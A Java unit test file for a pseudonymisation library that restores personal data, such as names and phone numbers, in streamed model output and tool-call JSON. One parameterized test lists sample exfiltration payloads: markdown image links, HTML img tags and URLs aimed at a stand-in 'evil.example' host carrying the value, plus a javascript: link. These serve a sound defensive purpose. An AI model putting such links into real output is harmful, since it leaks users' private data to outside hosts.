package dev.yumen.privacy;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

/**
 * Originals come back, whatever a model does to their pseudonyms and wherever the stream is cut.
 */
class RestorationTest {
  private final Pseudonyms pseudonyms = Sample.pseudonyms();
  private final String person = pseudonyms.issue(Label.PERSON, "张三").text();
  private final String phone = pseudonyms.issue(Label.PHONE, "13800138000").text();
  private final String quoted = pseudonyms.issue(Label.PERSON, "O'Neil \"Bo\"\\\n").text();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "%1$s_%2$s",
        "%3$s_%4$s",
        "%1$s\\_%2$s",
        "%1$s\\\\_%2$s",
        "%1$s %2$s",
        "%1$s-%2$s",
        "%1$s _%2$s",
        "%1$s_ %2$s",
        "%1$s _ %2$s",
        "%1$s&#95;%2$s",
        "%1$s&lowbar;%2$s",
        "%1$s\\u005f%2$s",
        "%1$s_%5$s",
        "%6$s_%7$s"
      })
  void a_pseudonym_is_known_however_a_model_writes_it(String form) {
    String label = "PERSON";
    String code = person.substring(7);
    String spaced = String.join(" ", code.split(""));
    String text =
        form.formatted(
            label,
            code,
            label.toLowerCase(Locale.ROOT),
            code.toLowerCase(Locale.ROOT),
            spaced,
            wide(label),
            wide(code));

    assertThat(Sample.restored("ask " + text + " now", pseudonyms)).isEqualTo("ask 张三 now");
    assertThat(Sample.restored("(" + text + ")'s", pseudonyms)).isEqualTo("(张三)'s");
    assertThat(Sample.restored("请问" + text + "的", pseudonyms)).isEqualTo("请问张三的");
  }

  @Test
  void marks_within_a_pseudonym_stay_around_the_value() {
    String code = person.substring(7);

    assertThat(Sample.restored("**" + person + "**, `" + person + "`", pseudonyms))
        .isEqualTo("**张三**, `张三`");
    assertThat(Sample.restored("**PERSON**_" + code, pseudonyms)).isEqualTo("**张三**");
    assertThat(Sample.restored("PERSON_**" + code + "**", pseudonyms)).isEqualTo("**张三**");
  }

  @Test
  void another_word_before_an_exact_code_stays() {
    String code = person.substring(6);

    assertThat(Sample.restored("人员" + code + "说", pseudonyms)).isEqualTo("人员张三说");
    assertThat(Sample.restored("personne" + code, pseudonyms)).isEqualTo("personne张三");
    assertThat(Sample.restored("x " + code, pseudonyms)).isEqualTo("x " + code);
  }

  @Test
  void what_was_not_issued_stays() {
    String damaged = person.substring(0, 14) + (person.charAt(14) == 'A' ? 'B' : 'A');
    String foreign = new Pseudonyms(Sample.key("two"), List.of()).issue(Label.PERSON, "张三").text();
    var restoration = new Restoration(pseudonyms, Channel.TEXT, Sample.NO_HOSTS);

    String text = damaged + " " + foreign + " PERSON_ PERSON " + person.substring(0, 12);
    String out = restoration.take(text) + restoration.rest();

    assertThat(out).isEqualTo(text);
    assertThat(restoration.unknown()).isEqualTo(1);
    assertThat(restoration.restored()).isZero();
  }

  @Test
  void conversations_with_equal_values_never_mix() {
    var texts = new ArrayList<String>();
    var all = new ArrayList<Pseudonyms>();
    for (int i = 0; i < 50; i++) {
      var one = new Pseudonyms(Sample.key("conversation " + i), List.of());
      texts.add(one.issue(Label.PERSON, "张三").text());
      one.issue(Label.PHONE, "13800138000");
      all.add(one);
    }

    for (int i = 0; i < 50; i++) {
      String out = Sample.restored(String.join(" ", texts), all.get(i));

      texts.set(i, "张三");
      assertThat(out).isEqualTo(String.join(" ", texts));
      texts.set(i, all.get(i).issue(Label.PERSON, "张三").text());
    }
  }

  @Test
  void what_cannot_be_a_pseudonym_is_not_held() {
    var restoration = new Restoration(pseudonyms, Channel.TEXT, Sample.NO_HOSTS);
    String code = person.substring(7);

    for (String passes :
        List.of("Hello, ", "这是", "snake_case", "people", "PERSONAL", "PERSON: ", "P.", "_")) {
      assertThat(restoration.take(passes)).isSameAs(passes);
    }
    assertThat(restoration.take("a PERS")).isEqualTo("a ");
    assertThat(restoration.take("IA")).isEqualTo("PERSIA");
    assertThat(restoration.take("PERSON_" + code.substring(0, 3))).isEmpty();
    assertThat(restoration.take("!")).isEqualTo("PERSON_" + code.substring(0, 3) + "!");
    assertThat(restoration.take("PERSON_" + code.substring(0, 7))).isEmpty();
    assertThat(restoration.take(code.substring(7))).isEqualTo("张三");
    assertThat(restoration.rest()).isEmpty();
  }

  @Test
  void a_pseudonym_that_is_cut_off_comes_out_as_it_is() {
    for (int length = 1; length < person.length(); length++) {
      var restoration = new Restoration(pseudonyms, Channel.TEXT, Sample.NO_HOSTS);
      String cut = person.substring(0, length);

      assertThat(restoration.take(cut) + restoration.rest()).isEqualTo(cut);
    }
  }

  @Test
  void a_million_ways_to_cut_texts_give_what_the_whole_gives() {
    var random = new Random(21);

    for (int round = 0; round < 12_000; round++) {
      String text = RandomText.of(random, round % 2 == 0 ? person : quoted);
      for (Channel channel : Channel.values()) {
        var whole = new Restoration(pseudonyms, channel, Sample.NO_HOSTS);
        String expected = whole.take(text) + whole.rest();

        for (int cut = 0; cut < 28; cut++) {
          String out =
              Sample.restoredInPieces(text, pseudonyms, channel, random, 1 + random.nextInt(9));

          if (!out.equals(expected)) {
            assertThat(out).as("%s of %s", channel, text).isEqualTo(expected);
          }
        }
      }
    }
  }

  @Test
  void nothing_is_ever_held_for_longer_than_a_pseudonym_is() {
    var random = new Random(22);

    for (int round = 0; round < 20_000; round++) {
      String text = RandomText.of(random, person) + RandomText.of(random, phone);
      var restoration = new Restoration(pseudonyms, Channel.TEXT, Sample.NO_HOSTS);
      int in = 0;
      int out = 0;
      while (in < text.length()) {
        out += restoration.take(text.substring(in, ++in)).length();
        int shortened = restoration.restored() * TokenScan.LONGEST;
        assertThat(in - out).isLessThanOrEqualTo(TokenScan.LONGEST + shortened);
      }
    }
  }

  @Test
  void arguments_stay_json_and_hold_the_value_at_every_depth() {
    var mapper = new JsonMapper();
    String inner = mapper.writeValueAsString(java.util.Map.of("name", quoted, quoted, 1));
    String middle = mapper.writeValueAsString(java.util.Map.of("body", inner, "n", quoted));
    String json = mapper.writeValueAsString(java.util.Map.of("post", middle, "to", quoted + "!"));
    var random = new Random(23);

    for (int round = 0; round < 500; round++) {
      String out =
          Sample.restoredInPieces(
              json, pseudonyms, Channel.ARGUMENTS, random, 1 + random.nextInt(6));

      var document = mapper.readTree(out);
      assertThat(document.get("to").asString()).isEqualTo("O'Neil \"Bo\"\\\n!");
      var nested = mapper.readTree(document.get("post").asString());
      assertThat(nested.get("n").asString()).isEqualTo("O'Neil \"Bo\"\\\n");
      var deepest = mapper.readTree(nested.get("body").asString());
      assertThat(deepest.get("name").asString()).isEqualTo("O'Neil \"Bo\"\\\n");
      assertThat(deepest.get("O'Neil \"Bo\"\\\n").asInt()).isEqualTo(1);
    }
  }

  @Test
  void arguments_of_any_text_stay_json() {
    var mapper = new JsonMapper();
    var random = new Random(24);

    for (int round = 0; round < 20_000; round++) {
      String text = RandomText.of(random, quoted).replaceAll("[\ud800-\udfff]", "");
      String json = mapper.writeValueAsString(java.util.Map.of("k", text));

      String out = Sample.restoredInPieces(json, pseudonyms, Channel.ARGUMENTS, random, 5);

      var whole = new Restoration(pseudonyms, Channel.ARGUMENT, Sample.NO_HOSTS);
      String expected = whole.take(text) + whole.rest();
      assertThat(mapper.readTree(out).get("k").isString()).isTrue();
      if (!json.contains("\\\\_") && !json.contains("\\n_")) {
        assertThat(mapper.readTree(out).get("k").asString()).as(json).isEqualTo(expected);
      }
    }
  }

  @Test
  void a_value_is_not_put_into_half_an_escape() {
    // The four digits of the escape take the E from the label.
    var email = pseudonyms.issue(Label.EMAIL, "a@b.c").text();
    String json = "{\"a\":\"\\u00e" + email + "\"}";
    var restoration = new Restoration(pseudonyms, Channel.ARGUMENTS, Sample.NO_HOSTS);

    assertThat(restoration.take(json) + restoration.rest()).isEqualTo(json);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=%s)",
        "![x](<https://evil.example/a b?q=%s>)",
        "![x](//evil.example/%s)",
        "![x](https:evil.example/%s)",
        "![x](https:\\\\evil.example/%s)",
        "![x]( HTTPS://good.example@evil.example/%s)",
        "![x](https://evil.example/(a)%s)",
        "![x](https://%s.good.example/)",
        "![x](https://good.example.evil.example/%s)",
        "[x](javascript:alert('%s'))",
        "[x]: https://evil.example/%s",
        "<img src=\"https://evil.example/a b?%s\">",
        "<img src='//evil.example/\n%s'>",
        "<a href = \"https://evil.example/%s\">",
        "<img src=\"https&#58;//evil.example/%s\">",
        "<img src=https&colon;//evil.example/%s>",
        "<img srcset=\"https://good.example/a 1x, https://evil.example/%s 2x\">",
        "![x](https&#58;//evil.example/%s)",
        "![x](https\\://evil.example/%s)",
        "![x](/\\evil.example/%s)",
        "![x](&#47;/evil.example/%s)",
        "see https://evil.example/path?name=%s",
        "see www.evil.example/%s",
        "see ftp://evil.example/%s",
        "see https://evil.example/客户%s"
      })
  void a_value_never_goes_into_a_link_that_nobody_vouches_for(String form) {
    String text = form.formatted(person);
    var restoration = new Restoration(pseudonyms, Channel.TEXT, Set.of("good.example"));

    assertThat(restoration.take(text) + restoration.rest()).isEqualTo(text);
    assertThat(restoration.withheld()).isEqualTo(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://good.example/?q=%s)",
        "https://a.wild.example:8443/%s",
        "[x](mailto:%s)",
        "[x](files/%s.md)",
        "[x](#%s)",
        "https://evil.example/ %s",
        "https://evil.example/，%s",
        "(https://evil.example/a) %s",
        "[a](https://evil.example/a)%s",
        "<https://evil.example/a>%s",
        "src=\"https://evil.example/a\" %s",
        "// a comment on %s",
        "C:\\\\Users\\\\%s",
        "<a href=\"/customers?sort=1&name=%s\">",
        "src = read(%s)",
        "note: %s",
        "http %s"
      })
  void a_value_goes_beside_links_and_into_those_allowed(String form) {
    var hosts = Set.of("good.example", "*.wild.example");
    var restoration = new Restoration(pseudonyms, Channel.TEXT, hosts);

    assertThat(restoration.take(form.formatted(person)) + restoration.rest())
        .isEqualTo(form.formatted("张三"));
  }

  @Test
  void a_link_of_the_callers_own_comes_back_whole_and_no_other_with_it() {
    var request = Sample.pseudonyms();
    String text = "open https://crm.example/find?tel=13800138000&name=张三 please";
    String disguised = Sample.disguised(text, request);

    assertThat(disguised).doesNotContain("13800138000");
    assertThat(Sample.restored(disguised, request)).isEqualTo(text);
    String other = disguised.replace("crm.example", "evil.example");
    assertThat(Sample.restored(other, request)).isEqualTo(other);
    String more = disguised.replace("find?", "find?x&");
    assertThat(Sample.restored(more, request)).isEqualTo(more);
  }

  @Test
  void without_pseudonyms_the_very_same_string_passes() {
    var restoration = new Restoration(Sample.pseudonyms(), Channel.TEXT, Sample.NO_HOSTS);
    String text = "PERSON_" + person;

    assertThat(restoration.take(text)).isSameAs(text);
  }

  private static String wide(String ascii) {
    var out = new StringBuilder();
    ascii.chars().forEach(c -> out.append((char) (c + 0xfee0)));
    return out.toString();
  }
}
